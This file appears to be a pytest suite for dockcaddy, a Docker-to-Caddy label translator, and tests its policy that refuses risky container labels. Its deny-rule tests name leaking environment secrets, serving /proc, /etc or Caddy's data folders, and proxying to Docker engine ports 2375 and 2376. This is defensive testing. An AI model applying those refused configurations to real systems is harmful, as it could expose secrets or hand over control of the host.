    site(caddy__tls__ca="https://acme-staging-v02.api.letsencrypt.org/directory"),
    site(caddy__tls__ca="https://ca.internal:9000/acme/acme/directory", caddy__tls__ca_root="/certs/root.crt"),
    site(caddy__tls__eab="{env.ZEROSSL_KID} {env.ZEROSSL_HMAC}"),
    site(caddy__tls__issuer="zerossl {env.ZEROSSL_API_KEY}"),
    site(
        caddy__tls__issuer="acme", caddy__tls__issuer__email="{env.EMAIL}", caddy__tls__issuer__dns="hetzner {env.HZ}"
    ),
    site(caddy__tls__get_certificate="http https://certs.internal/get"),
    site(
        caddy__tls__client_auth__mode="require_and_verify",
        caddy__tls__client_auth__trusted_ca_cert_file="/certs/ca.pem",
    ),
    {"caddy": "(cf)", "caddy.tls.dns": "cloudflare {env.CF_API_TOKEN}", "caddy.tls.resolvers": "1.1.1.1"},
    {"caddy": "(cf)", "caddy.dns": "cloudflare {env.CF_API_TOKEN}"},
    site(caddy__tls__import="cf"),
    {"caddy.acme_dns": "cloudflare {$CF_API_TOKEN}"},
    {
        "caddy.acme_ca": "{$ACME_CA}",
        "caddy.acme_eab.key_id": "{env.EAB_KEY_ID}",
        "caddy.acme_eab.mac_key": "{env.EAB_MAC}",
    },
    {"caddy.storage": "redis", "caddy.storage.password": "{env.REDIS_PASSWORD}"},
    {"caddy.storage": "redis", "caddy.storage.host": "redis", "caddy.storage.port": "6379"},
    {"caddy.storage": "file_system /data/caddy"},
    site(caddy__basic_auth__bob="{env.HASH}"),
    site(caddy__basic_auth="/admin/*", **{"caddy.basic_auth.{$ADMIN_USER}": "{$ADMIN_HASH}"}),
    site(caddy__handle="/x/*", caddy__handle__basicauth__bob="{env.HASH}"),
    site(caddy__respond="a{2,3} {http.request.uri} {host}"),
    site(caddy__header="X-File {file.base}{file.ext}"),
    site(caddy__header__to="x", caddy__header__url="{uri}", caddy__vars__url="{uri}", caddy__vars__to="localhost:2019"),
    {
        "caddy": "(s)",
        "caddy.@{args[0]}.host": "{args[0]}.example.org",
        "caddy.handle": "@{args[0]}",
        "caddy.handle.{block}": "",
    },
    site(caddy__import="common"),
    site(
        caddy__import="common {host} {scheme} 8080 `a b` ^/api/v\\d{1,2}$ /api/* @admin https://{host}{uri} *.example.org"
    ),
    site(caddy__import='json `{"a": 1}` proxy:8080 {args[0]}'),
    site(caddy__import="wrapped", caddy__import__reverse_proxy="{{upstreams 80}}"),
    site(caddy__reverse_proxy="{{upstreams 2019}}"),
    site(
        caddy__reverse_proxy="localhost:8080 unix//run/php/php.sock https://example.net [2001:db8::1]:8080 tcp6/[::1]:80"
    ),
    site(caddy__reverse_proxy="{http.request.host.labels.2}-app.internal:80 app-{re.sub.1}:8080 {{upstreams 2375}}"),
    site(caddy__reverse_proxy="web:8000-8003", caddy__reverse_proxy__lb_policy="cookie lb secret"),
    site(caddy__reverse_proxy="@api", caddy__reverse_proxy__to="api:80 h2c://grpc:9000"),
    site(caddy__reverse_proxy__dynamic="a web 8080"),
    site(
        caddy__reverse_proxy__dynamic="a",
        caddy__reverse_proxy__dynamic__name="web",
        caddy__reverse_proxy__dynamic__port="80",
    ),
    site(
        caddy__reverse_proxy="https://a",
        caddy__reverse_proxy__transport="http",
        caddy__reverse_proxy__transport__tls="",
    ),
    site(caddy__forward_auth="authelia:9091", caddy__forward_auth__uri="/api/verify?rd=https://auth.example.org"),
    site(
        caddy__php_fastcgi="/blog/* {{upstreams 9000}}",
        caddy__php_fastcgi__root="/app/public",
        caddy__php_fastcgi__env="A 1",
    ),
    {"caddy.layer4.:5432.@db": "tls sni db.example.org", "caddy.layer4.:5432.route.proxy.upstream": "db:5432"},
    {"caddy": "(s)", "caddy.tls.get_certificate": "http https://{args[0]}.certs.internal:{args[1]}/{args[2]}{args[3]}"},
    {"caddy": "(proxy)", "caddy.reverse_proxy": "{args[0]}"},
    {"caddy": "(proxy)", "caddy.reverse_proxy": "{args.0}"},
    {"caddy": "(proxy)", "caddy.reverse_proxy": "{args[0]}:{args[1]} app-{args[0]}:80 {args[:]}"},
    {"caddy": "example.org", "caddy.@a.expression": "`{http.request.uri}.matches('^/a{2}')`"},
    {"caddy": "example.org", "caddy.@a.expression": "path('/x') && header({'X': 'y'})"},
    {"caddy": "example.org", "caddy.@a": "`{method}.startsWith(\"P\") && !{path}.matches(r'\\.(js|css)$')`"},
    {"caddy": "example.org", "caddy.@a": "`header({ 'Origin': 'https://' + {host} }) || {client_ip} in ['10.0.0.1']`"},
    {"caddy": "example.org", "caddy.@a": "expression {http.error.status_code} == 404 && int({query.n}) > 5"},
    {"caddy": "*.example.org", "caddy.@a": "`{method} == 'GET' && {host} != 'a.example.org' && path('/x')`"},
    {"caddy": "a.test, https://b.test:8443/x", "caddy.@a": "`header({'Origin': 'https://' + {http.request.host}})`"},
    {"caddy": "example.org", "caddy.@a.not.path('/a/*') && {method} == 'GET'": ""},
    {"caddy": "example.org", "caddy.@a": "`{vars.req} == 'req' && {query.ph}.contains('ph') && url_pattern('/a/:id')`"},
    {"caddy": "example.org", "caddy.@a": "`file({'root': '/srv', 'try_files': [{path}, '/index.html']})`"},
    {"caddy": "example.org", "caddy.@a": "`vars({'\\{http.vars.x}': 'y'}) && path_regexp('^/\\\\d+/(?:a|b)$')`"},
    {"caddy": "example.org", "caddy.@a.vars": "{http.request.uri} /data", "caddy.@b.path": "/api/{args[0]}/*"},
    {
        "caddy": "example.org",
        "caddy.@m.path_regexp": "a ^/x{2}/(.*)$",
        "caddy.@m.header_regexp": "to Cookie s=(\\w{3})",
    },
    {"caddy": "(s)", "caddy.@r": "path_regexp url ^/x{2}", "caddy.@m.not.path_regexp": "dial ^/x{2}"},
    {"caddy": "example.org", "caddy.@m.vars": "{http.vars.x} y", "caddy.log_append": "who {http.auth.user.id}"},
    site(caddy__log__import="to_file", caddy__log__format="json", caddy__log__format__import="times"),
    site(caddy__import='json `{"a":{}}`', caddy__respond='`{"a": {}}`'),
    site(caddy__tls__issuer="acme https://ca.internal/acme/acme/directory"),
    {"caddy": "example.org", "caddy.@a": "remote_ip 10.0.0.0/8", "caddy.@b": "header Connection *Upgrade*"},
    site(caddy__log__output="file /var/log/caddy/example.log"),
    site(caddy__log__output="file /logs/access.json"),
    {"caddy": "(log)", "caddy.log.output": "file /var/log/caddy/{args[0]}.log"},
    site(caddy__log__output="stderr"),
    site(caddy__log="access", caddy__log__output="discard"),
    site(caddy__bind="unix//run/caddy/site.sock|0222 tailscale/node"),
    site(caddy__reverse_proxy="unix//run/containers/example-www.sock"),
    site(caddy__root="* /srv/www"),
    site(caddy__root="* /home/op/public"),
    site(caddy__root="* /var/www/{host}"),
    site(caddy__root="* /srv/sites/app-{labels.2}/public"),
    site(caddy__root="* {host}/public"),
    site(caddy__root="* public"),
    site(caddy__root="* ."),
    site(caddy__root="/usr/share/caddy", caddy__vars="color blue", caddy__vars__x="{query.x}"),
    site(caddy__file_server=""),
    site(caddy__file_server__browse="", caddy__file_server__index="index.html"),
    {"caddy": ":8443", "caddy.tls": "internal", "caddy.tls.curves": "x25519", "caddy.respond": "x"},
    {"caddy": "example.org:8443, HTTPS://www.example.org", "caddy.respond": "x"},
    {"caddy.email": "op@example.org", "caddy.servers.protocols": "h1 h2"},
    {
        "caddy.grace_period": "10s",
        "caddy.default_sni": "example.org",
    },
    {"caddy.local_certs": "", "caddy.debug": "", "caddy.metrics": ""},
    {
        "caddy.servers.timeouts.read_body": "10s",
        "caddy.servers.timeouts.idle": "2m",
        "caddy.servers.max_header_size": "16kb",
    },
    {
        "caddy.servers.listener_wrappers.0_proxy_protocol.allow": "10.0.0.0/8",
        "caddy.servers.listener_wrappers.1_tls": "",
    },
    {"caddy.renewal_window_ratio": "0.5", "caddy.renew_interval": "10m", "caddy.cert_lifetime": "7d"},
    {"caddy.log.level": "WARN", "caddy.log.format": "json", "caddy.log.output": "file /var/log/caddy/caddy.log"},
    {
        "caddy.pki.ca": "local",
        "caddy.pki.ca.name": "Home",
        "caddy.skip_install_trust": "",
        "caddy.ocsp_stapling": "off",
    },
    *(
        {"caddy.servers.timeouts.read_header": each}
        for each in ("10s", "1.s", "1h+1d", "1d1h", "0", "1m.5s", "1000000μs")
    ),
    *({"caddy.servers.trusted_proxies": f"static {ranges}"} for ranges in SOMEBODYS),
    {"caddy.servers.trusted_proxies": "cloudflare", "caddy.servers.trusted_proxies.interval": "12h"},
    {"caddy.servers.listener_wrappers.proxy_protocol.allow": CLOUDFLARE},
    {"caddy.servers.listener_wrappers.proxy_protocol.timeout": "2s"},
    *({"caddy.servers.max_header_size": each} for each in ("1MB", "5 MiB", "16k", "32768", "0")),
    {"caddy.servers": ":443", "caddy.servers.name": "https", "caddy.servers.protocols": "h1 h2 h2c h3"},
    {"caddy.servers.strict_sni_host": "on", "caddy.servers.enable_full_duplex": "", "caddy.servers.0rtt": "off"},
    {"caddy.servers.keepalive_interval": "15s", "caddy.servers.trusted_proxies_strict": ""},
    {"caddy.metrics.per_host": "", "caddy.key_type": "p384", "caddy.preferred_chains": "smallest"},
    {"caddy.pki.ca.maintenance_interval": "10m", "caddy.pki.ca.intermediate_lifetime": "30d"},
    {"caddy.cert_issuer": "internal", "caddy.cert_issuer.lifetime": "24h"},
    site(
        caddy__rate_limit__zone="all",
        caddy__rate_limit__zone__key="{remote_host}",
        caddy__rate_limit__zone__events="100",
    ),
    {
        "caddy": "https://*.example.org:8443, b.test/x",
        "caddy.log.hostnames": "a.example.org b.test",
        "caddy.respond": "x",
    },
    {"caddy": "(s)", "caddy.log.output": "file /var/log/{args[0]}-{args[1]}/app.{args[0]}.log"},
    {"caddy": "(s)", "caddy.log.output": "file /srv/{args[0]}/logs/access.log"},
    {"caddy.storage_clean_interval": "off", "caddy.tls_resolvers": "1.1.1.1", "caddy.ech": "ech.example.org"},
]


@pytest.mark.parametrize(("rule", "labels"), REFUSED, ids=[f"{rule}-{at}" for at, (rule, _) in enumerate(REFUSED)])
def test_a_label_that_could_reach_the_proxys_own_is_refused(rule: str, labels: dict[str, str]) -> None:
    assert refused_by(labels) == rule


@pytest.mark.parametrize("labels", ALLOWED, ids=[str(at) for at, _ in enumerate(ALLOWED)])
def test_what_people_use_is_let_through(labels: dict[str, str]) -> None:
    assert not rendered(labels).problems


@pytest.mark.parametrize("words", ["name ", "trusted_proxies ", "to ", "root ", "to a:1 "])
def test_more_options_in_a_line_than_anybody_writes_are_refused(words: str) -> None:
    for label in ("caddy.log.include", "caddy.servers.client_ip_headers"):
        told = [str(problem) for problem in rendered({label: words * 257}).problems]
        assert told == [f"container web-1: label {label}: policy: more than 256 options in one line"]


@pytest.mark.parametrize("words", ["a{} ", "name x{} ", "10.0.{}.0/24 "])
def test_a_line_of_many_words_is_no_work_beyond_reading_it(words: str) -> None:
    def labels(words: list[str]) -> Callable[[], object]:
        return lambda: rendered(
            {"caddy.log.include": "".join(words), "caddy.servers.client_ip_headers": "".join(words)}
        )

    assert grows_evenly(lambda size: labels([words.format(number) for number in range(size)]), 50)


def test_a_long_number_is_read_to_its_end() -> None:
    for text in ("1" * 1_000_000, "1.1" * 300_000, "1ns" * 300_000, "1," * 500_000):
        rendered({"caddy.servers.timeouts.idle": text, "caddy.servers.max_header_size": text})
        rendered({"caddy.renewal_window_ratio": text})


def test_what_a_container_has_mounted_it_may_have_served() -> None:
    mounts = (Mount("volume", "/var/lib/docker/volumes/site/_data", "/usr/share/nginx/html", "site"),)
    labels = site(caddy__root='* {{mountSource "/usr/share/nginx/html/public"}}')
    assert not rendered(labels, mounts=mounts).problems


@pytest.mark.parametrize(
    ("caddys", "rule"),
    [
        ((), "roots"),
        ((Mount("bind", "/var/log/web", "/var/log/web"),), ""),
        ((Mount("bind", "/x", "/var/log"),), "roots"),
    ],
)
def test_where_caddy_has_files_of_its_own_the_hosts_are_only_what_it_has_mounted(
    caddys: tuple[Mount, ...], rule: str
) -> None:
    mounts = (Mount("bind", "/var/log/web", "/logs"),)
    labels = site(caddy__root='* {{mountSource "/logs"}}')
    assert refused_by(labels, mounts=mounts) == ""
    assert refused_by(labels, mounts=mounts, caddy=testing.container("caddy", mounts=caddys)) == rule


@pytest.mark.parametrize("source", ["/data", "/proc", "/etc", "/"])
def test_mounting_the_proxys_own_does_not_make_it_served(source: str) -> None:
    mounts = (Mount("bind", source, "/host"),)
    assert refused_by(site(caddy__root='* {{mountSource "/host"}}'), mounts=mounts) == "roots"


@pytest.mark.parametrize(
    "allow",
    [
        "environment",
        "environment@container:web-*",
        "container:web-1",
        "environment@project:shop",
        "network:front",
        "environment@prefix:caddy.resp",
    ],
)
def test_a_setting_lets_through_whom_it_names(allow: str) -> None:
    labels = site(caddy__respond="{env.TOKEN}") | {"com.docker.compose.project": "shop"}
    assert refused_by(labels, PolicySettings(allow=(allow,))) == ""


@pytest.mark.parametrize("allow", ["files", "environment@container:db", "project:other", "environment@prefix:caddy_9"])
def test_a_setting_lets_through_nobody_else(allow: str) -> None:
    assert refused_by(site(caddy__respond="{env.TOKEN}"), PolicySettings(allow=(allow,))) == "environment"


def test_the_container_that_caddy_runs_in_may_set_options_for_everybody() -> None:
    for options in ({"caddy.http_port": "8080"}, {"caddy.auto_https": "off"}, {"caddy.order": "header last"}):
        assert rendered(options).problems and not rendered(options, runs_caddy=True).problems


def test_full_trust_lets_everything_through() -> None:
    settings = PolicySettings(trust="all")
    assert [labels for _, labels in REFUSED if refused_by(labels, settings)] == []


def test_the_refusal_names_the_label_and_the_way_around() -> None:
    (problem,) = rendered(site(caddy__respond="{env.TOKEN}")).problems
    assert str(problem) == (
        "container web-1: label caddy.respond: policy: {env.TOKEN} could be sent out; "
        'to allow it: [policy] allow = ["environment@container:web-1"]'
    )


@pytest.mark.parametrize(
    ("given", "message"),
    [("enviroment", 'no rule "enviroment", did you mean "environment"'), ("files@name:x", "expected RULE, SCOPE:NAME")],
)
def test_a_wrong_exception_is_told(given: str, message: str) -> None:
    settings = Settings(sections={"policy": {"allow": [given]}}, source="dockcaddy.toml")
    with pytest.raises(SettingsError, match=message):
        load_sections(settings, plugins.load().sections, {})


def test_what_a_rule_refuses_may_still_be_shown() -> None:
    fragment = rendered(site(caddy__templates=""))
    assert fragment.refused and "templates" in fragment.content


@pytest.mark.parametrize("value", ["{$x", "{$X:`}", "{$X:<<E}", "{$X:#}", "{$}", "a {$X:{} b"])
def test_a_variable_that_would_open_a_structure_is_refused_whomever_it_comes_from(value: str) -> None:
    fragment = rendered(site(caddy__respond=value), PolicySettings(trust="all"))
    assert "not a whole reference to a variable" in str(fragment.problems)


def test_an_admission_rule_may_refuse_a_resource() -> None:
    class Strict:
        __name__ = "dockcaddy_strict"

        @staticmethod
        def check(context, blocks) -> None:
            raise LabelError(blocks[0].origins[0].label, "not today")

    import dockcaddy

    plugin = type("Strict", (), {"__name__": "dockcaddy_strict"})()
    plugin.dockcaddy_admission_rules = dockcaddy.hook(lambda: [dockcaddy.AdmissionRule("strict", Strict.check)])
    fragment = testing.fragment(testing.container("web-1", labels=site(caddy__respond="x")), plugin)
    assert str(fragment.problems[0]) == "container web-1: label caddy: not today"


@pytest.mark.parametrize("folder", ["/data", "/config/caddy", "/etc/caddy"])
def test_the_usual_folders_of_caddy_are_not_served_whatever_this_run_uses(folder: str) -> None:
    resource = testing.container("web-1", labels=site(caddy__root=f"* {folder}", caddy__file_server=""))
    assert "holds or belongs to" in str(testing.fragment(resource).problems)


@pytest.mark.parametrize("port", [2375, 2376])
def test_the_usual_ports_of_engines_are_no_upstreams_whatever_this_run_uses(port: int) -> None:
    resource = testing.container("web-1", labels=site(caddy__reverse_proxy=f"localhost:{port}"))
    assert f"port {port} is an engine's" in testing.fragment(resource).problems[0].message
